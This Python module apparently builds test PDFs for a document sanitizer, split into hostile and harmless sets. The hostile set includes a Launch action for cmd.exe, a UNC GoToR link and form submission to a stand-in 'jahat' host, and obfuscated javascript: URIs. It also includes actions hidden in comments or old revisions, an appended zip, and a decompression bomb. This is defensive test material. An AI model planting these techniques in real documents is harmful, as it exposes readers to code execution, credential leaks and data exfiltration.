"""PDF files written by hand, of which a part acts, fetches, carries or can be read in two ways; and harmless ones."""

import zlib

Objects = dict[int, bytes]
BASE: Objects = {
    1: b"<< /Type /Catalog /Pages 2 0 R %s>>",
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s>>",
}


def written(catalogue: bytes = b"", page: bytes = b"", *more: bytes, trailer: bytes = b"", head: bytes = b"") -> bytes:
    """Return a file with this in its catalogue and page, and these objects from number 4 on."""
    objects = {1: BASE[1] % catalogue, 2: BASE[2], 3: BASE[3] % page} | dict(enumerate(more, start=4))
    content = bytearray(b"%PDF-1.7\n" + head)
    places = {}
    for number, body in objects.items():
        places[number] = len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    content += b"".join(b"%010d 00000 n \n" % places[number] for number in sorted(objects))
    content += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(content)


def stream(entries: bytes, content: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), entries, content)


def packed(*objects: bytes, entries: bytes = b"/Type /ObjStm", numbers: int = 20) -> bytes:
    """Return a stream of objects with numbers from `numbers` on."""
    head, body = b"", b""
    for number, content in enumerate(objects, start=numbers):
        head += b"%d %d " % (number, len(body))
        body += content + b" "
    said = b"%s /N %d /First %d /Filter /FlateDecode" % (entries, len(objects), len(head))
    return stream(said, zlib.compress(head + body))


def link(action: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << %s >> >>]" % action


def revised(*objects: tuple[int, bytes]) -> bytes:
    """Return a file with a later revision, which replaces what came before it."""
    content = written()
    for number, body in objects:
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return content + b"trailer\n<< /Size 9 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"


WEB = b"/S /URI /URI (https://desa.example/)"
ACTIONS = {
    "GoToR": b"/S /GoToR /F (\\\\\\\\jahat\\\\a.pdf) /D [0 /Fit]",
    "GoToE": b"/S /GoToE /T << /R /C >>",
    "Thread": b"/S /Thread /F (a.pdf) /D 0",
    "Launch": b"/S /Launch /F (cmd.exe)",
    "Sound": b"/S /Sound /Sound 4 0 R",
    "Movie": b"/S /Movie",
    "Named": b"/S /Named /N /Print",
    "Hide": b"/S /Hide /T (a)",
    "SubmitForm": b"/S /SubmitForm /F (http://jahat.example/)",
    "ResetForm": b"/S /ResetForm",
    "ImportData": b"/S /ImportData /F (a.fdf)",
    "JavaScript": b"/S /JavaScript",
    "JavaScript dengan tanda": b"/S /Java#53cript",
    "Rendition": b"/S /Rendition",
    "SetOCGState": b"/S /SetOCGState /State []",
    "Trans": b"/S /Trans",
    "GoTo3DView": b"/S /GoTo3DView",
    "RichMediaExecute": b"/S /RichMediaExecute",
    "tidak dikenal": b"/S /BaruSekali",
    "GoTo ke berkas": b"/S /GoTo /F (a.pdf) /D [0 /Fit]",
    "URI javascript": b"/S /URI /URI (javascript:app.alert\\(1\\))",
    "URI javascript bertanda": b"/S /URI /URI (java\\163cript:1)",
    "URI javascript heksa": b"/S /URI /URI <6A6176617363726970743A31>",
    "URI javascript utf-16": b"/S /URI /URI <FEFF006A006100760061007300630072006900700074003A0031>",
    "URI berkas": b"/S /URI /URI (file:///c:/a.exe)",
    "URI tanpa skema": b"/S /URI /URI (a.exe)",
    "URI bukan teks": b"/S /URI /URI 4 0 R",
    "Next": b"%s /Next << /S /Launch /F (a) >>" % WEB,
    "Next dalam larik": b"%s /Next [<< %s >> << /S /Named /N /Print >>]" % (WEB, WEB),
    "dua arti": b"/S /URI /S /BaruSekali /URI (https://desa.example/)",
}
HOSTILE = {
    **{f"tautan {name}": lambda action=action: written(b"", link(action)) for name, action in ACTIONS.items()},
    **{
        f"saat dibuka {name}": lambda action=action: written(b"/OpenAction << %s >>" % action)
        for name, action in (ACTIONS | {"alamat": WEB}).items()
    },
    "aksi lewat acuan": lambda: written(
        b"", b"/Annots 4 0 R", b"[5 0 R]", b"<< /Subtype /Link /A 6 0 R >>", b"<< /S /Baru >>"
    ),
    "aksi di aliran objek": lambda: written(
        b"", b"/Annots [20 0 R]", packed(b"<< /Subtype /Link /A << /S /Baru >> >>")
    ),
    "aksi di aliran tanpa jenis": lambda: written(b"", b"", packed(b"<< /S /Launch >>", entries=b"")),
    "aksi di aliran berjenis lain": lambda: written(b"", b"", packed(b"<< /S /Launch >>", entries=b"/Type /XObject")),
    "aksi di revisi lama": lambda: revised(
        (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch >> >>"), (1, BASE[1] % b"")
    ),
    "aksi di revisi baru": lambda: revised(
        (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Named /N /Print >> >>")
    ),
    "acuan ke revisi lain": lambda: revised(
        (3, BASE[3] % b"/Annots [<< /Subtype /Link /A 8 0 R >>]"), (8, b"<< %s >>" % WEB), (8, b"<< /S /Baru >>")
    ),
    "aksi yang tidak dipakai": lambda: written(b"", b"", b"<< /S /JavaScript >>"),
    "aksi dalam komentar": lambda: written(head=b"%% 9 0 obj << /S /Launch >> endobj\n"),
    "aksi dalam isi": lambda: written(b"", b"/Contents 4 0 R", stream(b"", b"9 0 obj << /S /Launch >> endobj")),
    "kepala objek berkomentar": lambda: written(head=b"9 %a\n0 %b\nobj << /S /Launch >> endobj\n"),
    "kepala objek rapat": lambda: written(head=b"9 0obj<</S/Launch>>endobj\n"),
    "aksi halaman": lambda: written(b"", b"/AA << /O << /S /URI /URI (https://a.id) >> >>"),
    "aksi catatan": lambda: written(b"", b"/Annots [<< /Subtype /Widget /AA << /Fo 4 0 R >> >>]", b"<< /S /Baru >>"),
    "aksi sebelumnya": lambda: written(b"", b"/Annots [<< /Subtype /Link /PA << /S /URI /URI (file:///a) >> >>]"),
    "langkah penyajian": lambda: written(b"", b"/PresSteps << /NA << /S /Baru >> >>"),
    "skrip bernama": lambda: written(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", b"", b"<< /JS (1) >>"),
    "nama lain": lambda: written(b"/Names << /Baru << /Names [] >> >>"),
    "nama lewat acuan": lambda: written(b"/Names 4 0 R", b"", b"<< /Renditions 5 0 R >>", b"<< >>"),
    "lampiran": lambda: written(b"/Names << /EmbeddedFiles << >> >>"),
    "berkas terkait": lambda: written(b"/AF [4 0 R]", b"", b"<< /Type /Filespec /F (a) >>"),
    "berkas di luar": lambda: written(b"", b"", b"<< /Type /Filespec /F (http://jahat.example/a) >>"),
    "kumpulan": lambda: written(b"/Collection << >>"),
    "isian XFA": lambda: written(b"/AcroForm << /Fields [] /XFA 4 0 R >>", b"", stream(b"")),
    "urutan hitung": lambda: written(b"/AcroForm 4 0 R", b"", b"<< /Fields [] /CO [] >>"),
    "alamat dasar": lambda: written(b"/URI << /Base (http://jahat.example/) >>"),
    "syarat": lambda: written(b"/Requirements []"),
    **{
        f"catatan {kind}": lambda kind=kind: written(b"", b"/Annots [<< /Subtype /%s >>]" % kind.encode())
        for kind in ("FileAttachment", "Sound", "Movie", "Screen", "3D", "RichMedia", "TrapNet", "Baru")
    },
    "catatan tanpa jenis": lambda: written(b"", b"/Annots [<< /Rect [0 0 1 1] >>]"),
    "aliran di luar": lambda: written(b"", b"/Contents 4 0 R", stream(b"/F (http://jahat.example/a)")),
    "aliran di luar lewat nama": lambda: written(b"", b"", stream(b"/#46 4 0 R /FFilter /FlateDecode")),
    "gambar pengganti": lambda: written(b"", b"", stream(b"/Type /XObject /Subtype /Image /OPI << >>")),
    "formulir di luar": lambda: written(b"", b"", stream(b"/Subtype /Form /Ref << /Page 0 >>")),
    "PostScript": lambda: written(b"", b"", stream(b"/Type /XObject /Subtype /PS")),
    "saringan lain": lambda: written(b"", b"", stream(b"/Filter [/FlateDecode /Crypt]")),
    "aliran objek dengan saringan lain": lambda: written(b"", b"", stream(b"/N 1 /First 4 /Filter /LZWDecode", b"a")),
    "aliran objek rusak": lambda: written(b"", b"", stream(b"/N 1 /First 4 /Filter /FlateDecode", b"rusak")),
    "aliran objek membengkak": lambda: written(
        b"", b"", stream(b"/N 1 /First 4 /Filter /FlateDecode", zlib.compress(b"0" * 105_000_000))
    ),
    "kunci dua arti": lambda: written(b"", b"/Rotate 0 /Rotate 90"),
    "terkunci": lambda: written(trailer=b"/Encrypt << /Filter /Standard >> "),
    "dalam sekali": lambda: written(b"", b"/X " + b"[" * 100 + b"]" * 100),
    "tanda kurung terbuka": lambda: written(b"", b"", b"(a"),
    "sesuatu di belakang": lambda: written() + b"<script>",
    "zip di belakang": lambda: written(trailer=b"") + b"PK\x05\x06" + b"\x00" * 18,
    "tanpa halaman": lambda: written().replace(b"/Type /Page ", b"/Type /Pgae "),
    "terpotong": lambda: written()[:-30],
    "kosong": lambda: b"%PDF-1.7\n",
    "halaman terlalu banyak": lambda: written(b"", b"", *[b"<</Type/Page>>"] * 10_001),
    "objek terlalu banyak": lambda: written(head=b"9 0 obj null endobj\n" * 200_001),
}
GOOD = {
    "halaman": written,
    "tautan": lambda: written(b"", link(WEB)),
    "tautan surat": lambda: written(b"", link(b"/S /URI /URI (mailto:desa@a.id)")),
    "tautan telepon": lambda: written(b"", link(b"/S /URI /URI (tel:+62541)")),
    "tautan www": lambda: written(b"", link(b"/S /URI /URI (www.desa.example)")),
    "tautan berurutan": lambda: written(b"", link(b"%s /Next << /S /GoTo /D [3 0 R /Fit] >>" % WEB)),
    "tujuan saat dibuka": lambda: written(b"/OpenAction [3 0 R /Fit]"),
    "ke tempat saat dibuka": lambda: written(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /FitH 9] >>"),
    "daftar isi": lambda: written(
        b"/Outlines 4 0 R",
        b"",
        b"<< /First 5 0 R >>",
        b"<< /Title (A) /Next 6 0 R /A << /S /GoTo /D (a) >> >>",
        b"<< /Title (B) >>",
    ),
    "struktur": lambda: written(
        b"/StructTreeRoot 4 0 R /MarkInfo << /Marked true >>",
        b"",
        b"<< /Type /StructTreeRoot /K 5 0 R >>",
        b"<< /Type /StructElem /S /Sound /P 4 0 R /A << /O /Layout /Placement /Block >> /Ref [5 0 R] >>",
    ),
    "formulir isian": lambda: written(
        b"/AcroForm << /Fields [4 0 R] /DA (/Helv 0 Tf) >>",
        b"/Annots [4 0 R]",
        b"<< /Subtype /Widget /FT /Tx /F 4 /T (nama) >>",
    ),
    "aliran objek": lambda: written(b"", b"", packed(b"<< /Type /Font >>", b"[1 2 (a) <61> /B true null -1.5]")),
    "revisi": lambda: revised((3, BASE[3] % b"/Rotate 90")),
    "gambar": lambda: written(b"", b"", stream(b"/Subtype /Image /Filter [/ASCII85Decode /DCTDecode]", b"\x00obj\xff")),
    "tanda di dalam teks": lambda: written(b"", b"", b"<< /Title (a \\) b ( c ) \\050 obj << /S) /X (9 0 R) >>"),
    "lapisan": lambda: written(b"/OCProperties << /OCGs [] /D << /Order [] >> >>"),
    "nama tujuan": lambda: written(b"/Names << /Dests << /Names [(a) [3 0 R /Fit]] >> >>"),
    "tanda tangan": lambda: written(
        b"/AcroForm << /Fields [4 0 R] /SigFlags 3 >> /Perms << >> /DSS << >>",
        b"/Annots [4 0 R]",
        b"<< /Subtype /Widget /FT /Sig /V 5 0 R >>",
        b"<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 1 2 3] /Contents <00> >>",
    ),
    "peralihan halaman": lambda: written(b"", b"/Trans << /S /Fade >> /Group << /S /Transparency >>"),
}
